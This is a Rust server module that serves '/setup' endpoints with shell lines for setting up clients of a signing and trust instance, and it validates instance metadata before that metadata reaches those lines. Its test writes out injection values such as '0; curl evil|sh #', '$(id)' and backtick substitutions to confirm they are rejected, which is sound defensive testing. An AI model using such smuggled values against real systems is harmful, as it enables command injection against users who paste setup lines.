//! `/setup`: the lines for every client, as the instance knows itself, for people with `curl` and for `client-setup`.

use std::sync::Arc;

use aws_lc_rs::digest;
use axum::extract::{Path, State};
use axum::response::{IntoResponse, Response};
use axum::routing::get;
use axum::{Json, Router};
use clap::ValueEnum;
use common_bundle::trust::{SIGNING_CONFIG, Service, SigningConfig};
use common_server::reply;
use http::{StatusCode, header};
use serde::{Deserialize, Serialize};

use super::remark;
use crate::cli::Client;
use crate::files::FileSet;
use crate::paste::{Elsewhere, Instance};

/// Where an instance says what the lines depend on.
pub(crate) const INSTANCE: &str = "/setup/instance.json";

/// What an instance says of itself.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub(crate) struct Served {
    url: String,
    tls_url: String,
    root_sha256: String,
    /// Whose tokens are taken, where there is no development issuer.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    issuer: Option<String>,
    /// Services that are at other URLs.
    #[serde(default)]
    elsewhere: Elsewhere,
}

impl Served {
    /// For an instance at `url`, given its current `root.json`.
    pub(crate) fn new(url: &str, tls_url: &str, root: &[u8]) -> Served {
        Served {
            url: url.to_owned(),
            tls_url: tls_url.to_owned(),
            root_sha256: hex::encode(digest::digest(&digest::SHA256, root)),
            issuer: None,
            elsewhere: Elsewhere::default(),
        }
    }

    /// The same where tokens are of `issuer`.
    pub(crate) fn with_issuer(self, issuer: Option<String>) -> Served {
        Served { issuer, ..self }
    }

    /// Whether it can stand in lines that people paste into a shell. An instance that was taken over must not get at its clients
    /// by what it says of itself.
    ///
    /// # Errors
    /// The member that holds something else than it should.
    pub(crate) fn check(&self) -> Result<(), &'static str> {
        let plain = |text: &str| {
            let of_a_url = |c: char| c.is_ascii_alphanumeric() || ":/.-_~[]%@+=,".contains(c);
            (text.starts_with("http://") || text.starts_with("https://")) && text.chars().all(of_a_url)
        };
        let plain_if_any = |url: &Option<String>| url.as_deref().is_none_or(plain);
        let Elsewhere { fulcio, rekor, tsa } = &self.elsewhere;
        let hash = self.root_sha256.as_str();
        let sound = [
            (
                "root_sha256",
                hash.len() == 64 && hash.chars().all(|c| c.is_ascii_hexdigit()),
            ),
            ("tls_url", plain(&self.tls_url)),
            ("issuer", plain_if_any(&self.issuer)),
            ("elsewhere", [fulcio, rekor, tsa].into_iter().all(plain_if_any)),
        ];
        match sound.into_iter().find(|(_, sound)| !sound) {
            Some((member, _)) => Err(member),
            None => Ok(()),
        }
    }

    /// The lines' input. Where the program is on the server is nobody's business and no use elsewhere: it goes by its name.
    pub(crate) fn instance(self) -> Instance {
        Instance {
            url: self.url,
            tls_url: self.tls_url,
            root_sha256: self.root_sha256,
            sigbox: "sigbox".to_owned(),
            issuer: self.issuer,
            elsewhere: self.elsewhere,
        }
    }
}

/// Where tokens and certificates of an instance come from.
pub(crate) enum Origins {
    /// The development issuer, and a local authority whose certificate, PEM, the TLS listener's own is issued by.
    Development {
        /// The certificate.
        tls_authority: String,
    },
    /// An issuer of the operator's, and certificates that they brought.
    Operator {
        /// The issuer's URL.
        issuer: String,
    },
}

struct Setup {
    url: String,
    tls_url: String,
    origins: Origins,
    tuf: FileSet,
    trust: FileSet,
}

impl Setup {
    /// With the root and the services of this moment: they may be others after a rotation.
    fn served(&self) -> Served {
        let root = self
            .tuf
            .get("root.json")
            .map(|file| file.content)
            .unwrap_or_default();
        let issuer = match &self.origins {
            Origins::Development { .. } => None,
            Origins::Operator { issuer } => Some(issuer.clone()),
        };
        Served {
            elsewhere: self.elsewhere(),
            ..Served::new(&self.url, &self.tls_url, &root).with_issuer(issuer)
        }
    }

    /// As the published signing configuration has it.
    fn elsewhere(&self) -> Elsewhere {
        let config = self.trust.get(SIGNING_CONFIG);
        let Some(config) = config.and_then(|file| SigningConfig::parse(&file.content).ok()) else {
            return Elsewhere::default();
        };
        let other = |services: &[Service], path: &str| {
            let url = services.first()?.url.as_str();
            let base = url.strip_suffix(path).unwrap_or(url);
            (base != self.url).then(|| base.to_owned())
        };
        Elsewhere {
            fulcio: other(&config.ca_urls, ""),
            rekor: other(&config.rekor_tlog_urls, ""),
            tsa: other(&config.tsa_urls, "/api/v1/timestamp"),
        }
    }
}

/// The routes.
pub(crate) fn routes(url: &str, tls_url: &str, origins: Origins, tuf: FileSet, trust: FileSet) -> Router {
    let setup = Setup {
        url: url.to_owned(),
        tls_url: tls_url.to_owned(),
        origins,
        tuf,
        trust,
    };
    Router::new()
        .route("/setup", get(index))
        .route(
            INSTANCE,
            get(async |State(setup): State<Arc<Setup>>| Json(setup.served())),
        )
        .route("/setup/tls-ca.pem", get(tls_authority_pem))
        .route("/setup/{client}", get(lines))
        .with_state(Arc::new(setup))
}

fn text(body: String) -> Response {
    let headers = [
        (header::CONTENT_TYPE, "text/plain; charset=utf-8"),
        (header::CACHE_CONTROL, "no-cache"),
        (header::X_CONTENT_TYPE_OPTIONS, "nosniff"),
    ];
    (headers, body).into_response()
}

async fn index(State(setup): State<Arc<Setup>>) -> Response {
    let mut body =
        "Lines that set up a client for this instance, to read and then to paste into a shell:\n\n"
            .to_owned();
    for client in Client::value_variants() {
        body.push_str(&format!("{}/setup/{}\n", setup.url, client.name()));
    }
    text(body)
}

async fn tls_authority_pem(State(setup): State<Arc<Setup>>) -> Response {
    match &setup.origins {
        Origins::Development { tls_authority } => {
            let kind = [(header::CONTENT_TYPE, "application/x-pem-file")];
            (kind, tls_authority.clone()).into_response()
        }
        Origins::Operator { .. } => reply::error(
            StatusCode::NOT_FOUND,
            "the certificates of this instance are of an authority that its operator chose",
        ),
    }
}

async fn lines(State(setup): State<Arc<Setup>>, Path(name): Path<String>) -> Response {
    let Ok(client) = Client::from_str(&name, false) else {
        return reply::error(
            StatusCode::NOT_FOUND,
            "no client is set up under this name; /setup lists those that are",
        );
    };
    let lines = setup.served().instance().lines(client).join("\n");
    text(format!("# {}\n{lines}\n", remark(client)))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn nothing_that_a_shell_would_run_is_printed() {
        let sound = Served::new("http://localhost:3000", "https://localhost:3443", b"root");
        let sound = sound.with_issuer(Some("https://keycloak.example/realms/ci".to_owned()));
        assert_eq!(sound.check(), Ok(()));
        let hash = Served {
            root_sha256: "0; curl evil|sh #".to_owned(),
            ..sound.clone()
        };
        assert_eq!(hash.check(), Err("root_sha256"));
        for url in [
            "https://a.example/$(id)",
            "https://a.example/`id`",
            "https://a.example/; id",
            "javascript:x",
            "https://a.example/\u{1b}[2J",
        ] {
            let url = Some(url.to_owned());
            let issuer = sound.clone().with_issuer(url.clone());
            assert_eq!(issuer.check(), Err("issuer"), "{url:?}");
            let elsewhere = Elsewhere {
                tsa: url.clone(),
                ..Elsewhere::default()
            };
            let elsewhere = Served {
                elsewhere,
                ..sound.clone()
            };
            assert_eq!(elsewhere.check(), Err("elsewhere"), "{url:?}");
        }
    }
}
